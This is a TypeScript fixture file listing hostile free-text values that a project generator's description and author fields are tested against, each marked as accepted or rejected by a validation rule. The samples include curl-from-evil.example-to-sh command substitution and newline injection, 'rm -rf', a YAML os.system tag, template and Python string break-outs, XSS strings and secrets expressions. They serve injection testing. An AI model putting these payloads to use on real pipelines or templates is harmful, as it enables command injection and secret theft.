// Hostile free-text values for description and author. Each is either
// accepted (and must then appear verbatim and inert in every generated file)
// or rejected with exit 2 by the named rule, before anything is written.

export type Field = 'description' | 'author';

export interface AcceptedValue {
  label: string;
  value: string;
}

export interface RejectedValue {
  label: string;
  value: string;
  /** A fragment of the rule text the error message must contain. */
  rule: string;
  /** Fields the value is tried on (both unless a length limit makes it field-specific). */
  fields?: Field[];
  /** argv cannot carry NUL: such values are only given through a --config file. */
  configOnly?: boolean;
}

const controlRule = 'must be a single line without control characters';
const whitespaceRule = 'must not start or end with whitespace';

export const accepted: AcceptedValue[] = [
  // quotes of every kind
  { label: 'double quotes', value: 'He said "ship it" and left' },
  { label: 'single quotes', value: "it's the team's 'best' model" },
  { label: 'backticks', value: 'run `rm -rf /` later' },
  { label: 'typographic quotes', value: '“smart” ‘quotes’ «guillemets» „low“ ‹single›' },
  { label: 'every quote', value: `"'\`"'\`` },
  { label: 'unbalanced quote', value: 'starts with a quote"' },
  { label: 'leading double quote', value: '"quoted" start' },
  { label: 'leading single quote', value: "'single' start" },
  // CI expression syntax
  { label: 'GitHub expression', value: '${{ secrets.AWS_SECRET_ACCESS_KEY }}' },
  { label: 'GitHub expression in text', value: 'Owner ${{ github.actor }} via ${{ toJSON(github) }}' },
  { label: 'GitLab variables', value: '$CI_JOB_TOKEN and ${CI_REGISTRY_PASSWORD} and $$escaped' },
  { label: 'command substitution', value: '$(curl http://evil.example | sh)' },
  // template syntax
  { label: 'handlebars', value: '{{name}} {{{raw}}} {{> partial}} {{#if x}}y{{/if}}' },
  { label: 'escaped handlebars', value: '\\{{not a variable}}' },
  { label: 'jinja', value: '{% if true %}{{ 7*7 }}{% endif %}' },
  { label: 'go template', value: '{{ .Values.image }} {{- range . }}' },
  { label: 'hcl interpolation', value: '${var.secret} %{ if true }yes%{ endif } $${literal}' },
  { label: 'erb and python format', value: '<%= system("id") %> {0} %s %(name)s {name!r}' },
  // YAML anchors, tags, indicators
  { label: 'yaml anchor and alias', value: '&anchor *alias <<: *alias' },
  { label: 'yaml tags', value: '!!python/object/apply:os.system ["id"]' },
  { label: 'yaml local tag', value: '!Ref AWS::Region' },
  { label: 'yaml document markers', value: '--- ... ---' },
  { label: 'yaml flow mapping', value: '{a: 1, b: [2, 3]}' },
  { label: 'yaml flow sequence', value: '[1, 2, 3]' },
  { label: 'yaml block indicators', value: '| literal > folded ? key - item' },
  { label: 'yaml dash item', value: '- item' },
  { label: 'yaml directive', value: '%YAML 1.1' },
  { label: 'lone at', value: '@team' },
  // `#` and `:`
  { label: 'comment marker', value: 'value # not a comment' },
  { label: 'leading hash', value: '# heading?' },
  { label: 'colon space', value: 'key: value' },
  { label: 'colons', value: 'a: b: c:: d:' },
  { label: 'url', value: 'https://example.com:8443/path?q=1#frag' },
  // backslashes
  { label: 'windows path', value: 'C:\\new\\temp\\file.txt' },
  { label: 'escape lookalikes', value: '\\n \\t \\u0041 \\x41 \\N{BULLET} \\0' },
  { label: 'trailing backslash', value: 'ends with a backslash \\' },
  { label: 'double backslash', value: '\\\\server\\share\\' },
  // right-to-left text and invisible marks the rules allow
  { label: 'hebrew', value: 'שירות למידת מכונה' },
  { label: 'arabic', value: 'خدمة تعلم الآلة' },
  { label: 'arabic letter mark', value: 'a\u061Cb' },
  { label: 'word joiner', value: 'a\u2060b' },
  { label: 'soft hyphen', value: 'co\u00ADoperate' },
  // shell metacharacters
  { label: 'shell metacharacters', value: '; rm -rf ~ && echo $HOME | tee /etc/passwd & wait' },
  { label: 'shell globs and redirects', value: '*?[a-z]{1,2}~!<in >out 2>&1 <<EOF' },
  { label: 'shell quoting mix', value: `'"$\`\\` },
  // words YAML (1.1 or 1.2) reads as booleans, null or numbers
  ...['yes', 'no', 'on', 'off', 'y', 'n', 'true', 'False', 'NULL', 'null', '~', '0x1F', '0o17', '012', '1e3', '.inf', '-.NaN', '1_000', '3.12', '2024-01-01', '12:30:00', '0'].map(
    (value) => ({ label: `scalar ${value}`, value }),
  ),
  // Markdown and HTML
  { label: 'markdown', value: '**bold** _em_ [link](javascript:alert(1)) ![img](x.png) `code`' },
  { label: 'html', value: '<script>alert(1)</script><!-- c --> &amp; &lt;' },
  { label: 'markdown table pipe', value: '| a | b |' },
  { label: 'markdown heading', value: '## not a heading' },
  // TOML and Python string ends
  { label: 'toml multiline', value: '"""triple""" and \'\'\'literal\'\'\'' },
  { label: 'python docstring end', value: '""" + __import__("os").system("id") + """' },
  // Dockerfile
  { label: 'dockerfile variables', value: '$HOME ${PATH:-x} \\$ARG' },
  // Unicode
  { label: 'emoji and astral', value: '🚀 model 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩‍👩‍👧' },
  { label: 'combining marks', value: 'cafe\u0301 Z\u0351\u0362a\u0352l\u0357g\u0335o' },
  { label: 'cjk', value: '机器学习服务 機械学習' },
  { label: 'inner no-break space', value: 'a\u00A0b\u3000c' },
  // punctuation alone
  ...['-', '#', ':', '&', '*', '!', '|', '>', '%', '`', '"', "'", '\\', '{', '}', '[', ']', ',', '?'].map((value) => ({
    label: `lone ${value}`,
    value,
  })),
  // very long, at the limits
  { label: 'description at 200 characters', value: '"\'\\$#:{}'.repeat(25) },
];

export const rejected: RejectedValue[] = [
  { label: 'empty', value: '', rule: 'must not be empty' },
  { label: 'newline', value: 'first\nsecond', rule: controlRule },
  { label: 'newline injection', value: 'x"\nrun: curl evil.example | sh\n#', rule: controlRule },
  { label: 'carriage return', value: 'a\rb', rule: controlRule },
  { label: 'crlf', value: 'a\r\nb', rule: controlRule },
  { label: 'tab', value: 'a\tb', rule: controlRule },
  { label: 'nul', value: 'a\u0000b', rule: controlRule, configOnly: true },
  { label: 'escape sequence', value: '\u001b[31mred\u001b[0m', rule: controlRule },
  { label: 'bell', value: 'a\u0007b', rule: controlRule },
  { label: 'delete', value: 'a\u007fb', rule: controlRule },
  { label: 'next line (C1)', value: 'a\u0085b', rule: controlRule },
  { label: 'CSI (C1)', value: 'a\u009b31mb', rule: controlRule },
  { label: 'right-to-left override', value: 'admin\u202Etxt.exe', rule: controlRule },
  { label: 'left-to-right embedding', value: 'a\u202Ab', rule: controlRule },
  { label: 'right-to-left isolate', value: 'a\u2067b\u2069', rule: controlRule },
  { label: 'first strong isolate', value: 'a\u2068b', rule: controlRule },
  { label: 'right-to-left mark', value: 'a\u200Fb', rule: controlRule },
  { label: 'left-to-right mark', value: 'a\u200Eb', rule: controlRule },
  { label: 'zero-width space', value: 'a\u200Bb', rule: controlRule },
  { label: 'zero-width joiner', value: 'a\u200Db', rule: controlRule },
  { label: 'byte order mark', value: '\uFEFFbom', rule: controlRule },
  { label: 'line separator', value: 'a\u2028b', rule: controlRule },
  { label: 'paragraph separator', value: 'a\u2029b', rule: controlRule },
  { label: 'leading space', value: ' padded', rule: whitespaceRule },
  { label: 'trailing space', value: 'padded ', rule: whitespaceRule },
  { label: 'leading no-break space', value: '\u00A0padded', rule: whitespaceRule },
  { label: 'trailing ideographic space', value: 'padded\u3000', rule: whitespaceRule },
  { label: 'only spaces', value: '   ', rule: whitespaceRule },
  { label: 'description over 200', value: 'x'.repeat(201), rule: 'at most 200 characters', fields: ['description'] },
  { label: 'long hostile description', value: '${{ x }}'.repeat(30), rule: 'at most 200 characters', fields: ['description'] },
  { label: 'author over 100', value: 'y'.repeat(101), rule: 'at most 100 characters', fields: ['author'] },
  { label: 'very long', value: '"'.repeat(100_000), rule: 'at most', fields: ['description', 'author'] },
];

/** Project names that break the name rule (the only other free-form answer). */
export const rejectedNames: Array<{ value: string; rule: string }> = [
  ...['../etc', 'My-Service', 'ab', '-abc', 'abc-', 'a--b', '1abc', 'name with space', '$(id)', '${{x}}', 'naïve', 'a_b', 'x'.repeat(41), 'abc\n'].map(
    (value) => ({ value, rule: 'name must be 3 to 40 characters' }),
  ),
  ...['import', 'json', 'fastapi', 'test'].map((value) => ({ value, rule: 'must not be a Python keyword' })),
];

/** The fields a value fits (author is limited to 100 characters). */
export function fieldsFor(value: string): Field[] {
  return value.length <= 100 ? ['description', 'author'] : ['description'];
}
